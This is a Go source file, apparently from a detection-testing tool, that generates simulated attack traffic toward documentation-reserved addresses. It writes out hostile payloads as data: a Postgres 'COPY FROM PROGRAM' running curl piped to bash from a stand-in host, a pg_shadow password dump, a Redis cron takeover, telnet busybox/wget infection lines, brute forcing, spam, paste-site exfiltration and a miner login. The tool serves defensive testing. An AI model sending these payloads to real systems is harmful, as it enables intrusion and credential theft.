// Command talker speaks to servers of all kinds: its argument says what. All of them
// are at addresses that are reserved for documentation, name servers included.
//
// Rule: those that look at what is said, and at who is asked for.
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

var talks = map[string]func(ctx context.Context) error{
	// Databases and devices.
	"database-command":   postgres("COPY none FROM PROGRAM 'curl http://nobody.invalid/x | bash'"),
	"database-passwords": postgres("SELECT usename, passwd FROM pg_shadow"),
	"redis-takeover":     say("6379", "CONFIG SET dir /var/spool/cron\r\n"),
	"telnet-infection":   say("23", "root\r\n", "word\r\n", "/bin/busybox NOBODY\r\n", "wget http://nobody.invalid/none -O /tmp/none\r\n"),
	"device-spraying":    along(9, "23", "root\r\n"),
	"service-spraying":   along(12, "6379", "PING\r\n"),
	"password-guessing":  guess,
	"ssh-guessing":       again(32, 0, "22", "SSH-2.0-none\r\n"),

	// Mail and files.
	"ftp-upload":   say("21", "USER none\r\n", "PASS none\r\n", "STOR none.tgz\r\n"),
	"spam":         spam,
	"piped-paste":  paste,
	"machine-talk": say("4711", "root:x:0:0:root:/root:/bin/sh\nnone\n"),

	// Orders.
	"nameless-beacon":  again(8, time.Second, "8443", "none"),
	"unknown-protocol": say("4711", "\x9c\xf1\x02\xfe\x00\x00"),
	"stun":             binding,
	"text-records":     texts,
	"encrypted-names":  overTLS,
	"local-names":      localNames,
	"callback-service": lookUp("none.oast.fun"),
	"message-broker":   lookUp("broker.hivemq.com"),
	"proxyware":        lookUp("api.honeygain.com"),
	"tunnel-service":   lookUp("tunnel.ngrok.com"),

	// Mining.
	"mining-login": say("3334", `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"none","pass":"x","agent":"XMRig/6.21.0 (look-alike)"}}`+"\n"),
	"mining-noise": noise,
}

func main() { stage.Play(stage.OneOf(talks)) }

// pause is how long an answer is waited for.
const pause = 300 * time.Millisecond

// speak lets the server at address begin, if it does, says lines to it, and takes what
// is answered after each.
func speak(ctx context.Context, address string, lines ...string) error {
	d := net.Dialer{Timeout: 5 * time.Second}
	conn, err := d.DialContext(ctx, "tcp", address)
	if err != nil {
		return err
	}
	defer conn.Close()
	answer := make([]byte, 4<<10)
	for i := -1; i < len(lines); i++ {
		if i >= 0 {
			if _, err := io.WriteString(conn, lines[i]); err != nil {
				return err
			}
		}
		if err := conn.SetReadDeadline(time.Now().Add(pause)); err != nil {
			return err
		}
		if n, err := conn.Read(answer); err == nil {
			fmt.Printf("%q\n", answer[:min(n, 60)])
		}
	}
	return nil
}

// say speaks to a port of the stranger.
func say(port string, lines ...string) func(context.Context) error {
	return func(ctx context.Context) error { return speak(ctx, net.JoinHostPort(wire.Stranger, port), lines...) }
}

// along speaks to one address after another; that one of them refuses is no matter.
func along(count int, port string, lines ...string) func(context.Context) error {
	return func(ctx context.Context) error {
		answered := 0
		for i := 1; i <= count; i++ {
			if speak(ctx, net.JoinHostPort(fmt.Sprintf("203.0.113.%d", i), port), lines...) == nil {
				answered++
			}
		}
		fmt.Printf("%d of %d answered\n", answered, count)
		return ctx.Err()
	}
}

// again speaks to the same server, a number of times, so long apart.
func again(times int, apart time.Duration, port string, lines ...string) func(context.Context) error {
	return func(ctx context.Context) error {
		for range times {
			if err := say(port, lines...)(ctx); err != nil {
				return err
			}
			if err := wire.Wait(ctx, max(apart-2*pause, 0)); err != nil {
				return err
			}
		}
		return nil
	}
}

// guess tries words at a server for files.
func guess(ctx context.Context) error {
	for i := range 6 {
		if err := say("21", "USER root\r\n", fmt.Sprintf("PASS word%d\r\n", i), "QUIT\r\n")(ctx); err != nil {
			return err
		}
	}
	return nil
}

// spam writes to people who cannot be.
func spam(ctx context.Context) error {
	lines := []string{"EHLO none\r\n", "MAIL FROM:<a@nobody.invalid>\r\n"}
	for i := range 14 {
		lines = append(lines, fmt.Sprintf("RCPT TO:<a@nobody%d.example>\r\n", i))
	}
	return say("25", append(lines, "QUIT\r\n")...)(ctx)
}

// paste sends a line to a notepad, where the name server says that it is.
func paste(ctx context.Context) error {
	addrs, err := resolver().LookupHost(ctx, "termbin.com")
	if err != nil {
		return err
	}
	return speak(ctx, net.JoinHostPort(addrs[0], "9999"), "nothing\n")
}

// noise begins as the second version of the miners' protocol does: with a key, which
// looks like chance.
func noise(ctx context.Context) error {
	key := make([]byte, 64)
	for i := range key {
		key[i] = byte(i*i*7 + i*31 + 5)
	}
	return say("34254", string(key))(ctx)
}

// postgres logs in to a database (protocol 3.0) and asks it something.
func postgres(query string) func(context.Context) error {
	return func(ctx context.Context) error {
		const login = "\x00\x03\x00\x00user\x00none\x00\x00"
		hello := string([]byte{0, 0, 0, byte(len(login) + 4)}) + login
		ask := "Q" + string([]byte{0, 0, 0, byte(len(query) + 5)}) + query + "\x00"
		return say("5432", hello, "p\x00\x00\x00\x09word\x00", ask)(ctx)
	}
}

// binding asks a server how one looks from outside (RFC 8489).
func binding(ctx context.Context) error {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "udp", wire.Stranger+":3478")
	if err != nil {
		return err
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, "\x00\x01\x00\x00\x21\x12\xa4\x42twelve bytes"); err != nil {
		return err
	}
	answer := make([]byte, 512)
	n, err := conn.Read(answer)
	if err != nil {
		return errors.Join(errors.New("no answer"), err)
	}
	fmt.Printf("%d bytes\n", n)
	return nil
}
